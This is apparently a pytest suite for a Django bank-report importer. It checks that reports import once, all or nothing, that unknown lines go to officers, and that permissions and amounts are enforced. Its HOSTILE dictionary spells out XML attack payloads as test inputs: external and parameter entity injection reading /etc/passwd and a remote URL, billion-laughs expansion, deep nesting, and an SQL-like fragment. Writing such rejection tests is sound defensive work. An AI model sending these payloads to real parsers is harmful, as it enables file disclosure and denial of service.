"""Reports of the bank: once each, all or nothing, hostile ones refused, unknown ones listed."""

from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from payments.bank import report_reader
from payments.bank import services as payment_bank_services
from payments.bank.models import BankEntry, BankMessage, UnknownLine
from payments.dues.models import Payment
from payments.runs.models import Attempt
from payments.runs.money_check import check_money
from tests import cast
from tests.payments import payday

HEAD = '<?xml version="1.0"?>'
ROOT = f'<Document xmlns="{payday.P2}"><CstmrPmtStsRpt>'
END = "</CstmrPmtStsRpt></Document>"
TX = "<TxInfAndSts><OrgnlEndToEndId>{}</OrgnlEndToEndId><TxSts>ACSC</TxSts></TxInfAndSts>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

HOSTILE = {
    "external entity": f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>{ROOT}&x;{END}',
    "parameter entity": f'{HEAD}<!DOCTYPE d [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>{ROOT}{END}',
    "billion laughs": f'{HEAD}<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>{ROOT}&l9;{END}',
    "doctype alone": f"{HEAD}<!DOCTYPE d>{ROOT}{END}",
    "doctype in small letters": f"{HEAD}<!doctype d>{ROOT}{END}",
    "utf-16 doctype": f"{HEAD}<!DOCTYPE d>{ROOT}{END}".encode("utf-16"),
    "another namespace": f'{HEAD}<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"/>',
    "no namespace": f"{HEAD}<Document><CstmrPmtStsRpt/></Document>",
    "another root": f'{HEAD}<Envelope xmlns="{payday.P2}"/>',
    "not closed": f"{HEAD}{ROOT}{TX.format('CA0109-00000000001-1')}",
    "not xml": "id;status\n1;ACSC",
    "empty": "",
    "an id that is none": f"{HEAD}{ROOT}{TX.format('CA0109 1; DROP')}{END}",
    "no id": f"{HEAD}{ROOT}<TxInfAndSts><TxSts>ACSC</TxSts></TxInfAndSts>{END}",
    "too deep": f"{HEAD}{ROOT}{'<a>' * 5000}{'</a>' * 5000}{END}",
}


@pytest.fixture
def attempt(sara, ledger) -> Attempt:
    """At the bank, and not answered."""
    payday.studied(sara)
    payday.opened()
    payday.released(payday.frozen())
    payday.sent()
    return Attempt.objects.get()


@pytest.mark.threat("T46")
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused(name):
    content = HOSTILE[name]
    with pytest.raises(report_reader.ReportRefused):
        report_reader.read_report(content if isinstance(content, bytes) else content.encode())


@pytest.mark.threat("T46")
def test_a_report_larger_than_the_limit_is_not_read():
    with pytest.raises(report_reader.ReportRefused, match="20 MB"):
        report_reader.read_report(b" " * (report_reader.MAX_REPORT_BYTES + 1))


@pytest.mark.threat("T74")
def test_the_same_report_twice_changes_nothing(attempt):
    report = payday.status_report((attempt.end_to_end_id, "ACSC", ""))
    first = payment_bank_services.import_report("a.xml", report)
    again = payment_bank_services.import_report("b.xml", report)
    assert first.pk == again.pk and BankMessage.objects.count() == 1
    assert BankEntry.objects.count() == 1 and Payment.objects.get().history.count() == 1


def test_the_same_answer_in_another_report_changes_nothing(attempt):
    payment_bank_services.import_report("a.xml", payday.status_report((attempt.end_to_end_id, "ACSC", "")))
    booked = payday.booked((attempt.end_to_end_id, "1427.47", "DBIT", ""))
    assert payment_bank_services.import_report("b.xml", booked).moved == 0
    assert BankEntry.objects.count() == 1 and not UnknownLine.objects.exists()


@pytest.mark.parametrize("status", ["ACCP", "ACSP", "PDNG"])
def test_what_the_bank_still_works_on_moves_nothing(attempt, status):
    payment_bank_services.import_report("a.xml", payday.status_report((attempt.end_to_end_id, status, "")))
    assert Payment.objects.get().status == "under_process" and not UnknownLine.objects.exists()


@pytest.mark.threat("T74")
def test_one_wrong_line_changes_nothing_and_is_named(attempt):
    good, bad = (attempt.end_to_end_id, "1427.47", "DBIT", ""), (attempt.end_to_end_id, "1427.48", "DBIT", "")
    with pytest.raises(report_reader.ReportRefused) as refused:
        payment_bank_services.import_report("a.xml", payday.booked(good, bad))
    assert refused.value.problems[0][0] == 3 and "another amount" in refused.value.problems[0][1]
    assert not BankMessage.objects.exists() and Payment.objects.get().status == "under_process"


def test_unknown_ids_and_codes_move_nothing_and_wait_for_an_officer(attempt, signed_in):
    rows = (("CA0109-99999999999-1", "ACSC", ""), (attempt.end_to_end_id, "ZZZZ", ""))
    payment_bank_services.import_report("a.xml", payday.status_report(*rows))
    assert sorted(UnknownLine.objects.values_list("why", flat=True)) == ["code", "nobodys"]
    assert Payment.objects.get().status == "under_process"
    line = UnknownLine.objects.first()
    releaser = payday.three_officers()[2]
    client = signed_in(releaser)
    page = reverse("admin:payments_unknownline_change", args=[line.pk])
    assert client.get(page).status_code == 200
    assert client.post(page, {"note": "دفعة من برنامج آخر"}).status_code == 302
    line.refresh_from_db()
    assert (line.settled_by, line.note) == (releaser, "دفعة من برنامج آخر")


def test_a_return_of_what_was_never_paid_moves_nothing(attempt):
    back = payday.booked((attempt.end_to_end_id, "1427.47", "CRDT", "AC04"))
    assert payment_bank_services.import_report("a.xml", back).moved == 0
    assert UnknownLine.objects.get().why == "moment" and Payment.objects.get().status == "under_process"


@pytest.mark.parametrize(("code", "kind"), [("AC04", "payment_returned"), ("AM04", "payment_delayed")])
def test_the_citizen_is_asked_to_act_only_when_the_account_is_at_fault(attempt, sara, code, kind):
    payment_bank_services.import_report("a.xml", payday.status_report((attempt.end_to_end_id, "RJCT", code)))
    assert sara.notices.filter(kind__startswith="payment_").get().kind == kind
    assert Attempt.objects.get().code == code and check_money().is_clean


def test_paid_and_returned_in_one_report_is_both(attempt):
    rows = (
        (attempt.end_to_end_id, "1427.47", "DBIT", ""),
        (attempt.end_to_end_id, "1427.47", "CRDT", "AC04"),
    )
    assert payment_bank_services.import_report("a.xml", payday.booked(*rows)).moved == 2
    assert Payment.objects.get().status == "rejected" and check_money().is_clean


def test_an_officer_reads_a_report_and_sees_what_is_wrong_line_by_line(attempt, signed_in):
    client, page = signed_in(payday.three_officers()[2]), reverse("admin:payments_bankmessage_read")
    wrong = payday.booked((attempt.end_to_end_id, "1.00", "DBIT", ""))
    answer = client.post(page, {"report": SimpleUploadedFile("r.xml", wrong)})
    assert answer.status_code == 200 and attempt.end_to_end_id in answer.content.decode()
    right = payday.booked((attempt.end_to_end_id, "1427.47", "DBIT", ""))
    assert client.post(page, {"report": SimpleUploadedFile("r.xml", right)}).status_code == 302
    assert Payment.objects.get().status == "paid"
    assert BankMessage.objects.get().by == payday.three_officers()[2]


def test_reading_a_report_takes_the_right(attempt, signed_in):
    client = signed_in(cast.officer(91, "مدقق", roles=("auditor",)))
    assert client.get(reverse("admin:payments_bankmessage_read")).status_code == 403


def test_amounts_in_another_currency_or_with_three_decimals_are_refused(attempt):
    for amount, currency in (("1427.470", "SAR"), ("1427.475", "SAR"), ("1427.47", "EUR"), ("NaN", "SAR")):
        content = payday.booked((attempt.end_to_end_id, amount, "DBIT", "")).replace(
            b'"SAR"', f'"{currency}"'.encode()
        )
        if amount == "1427.470":
            assert report_reader.read_report(content).lines[0].amount == Decimal("1427.47")
        else:
            with pytest.raises(report_reader.ReportRefused):
                report_reader.read_report(content)
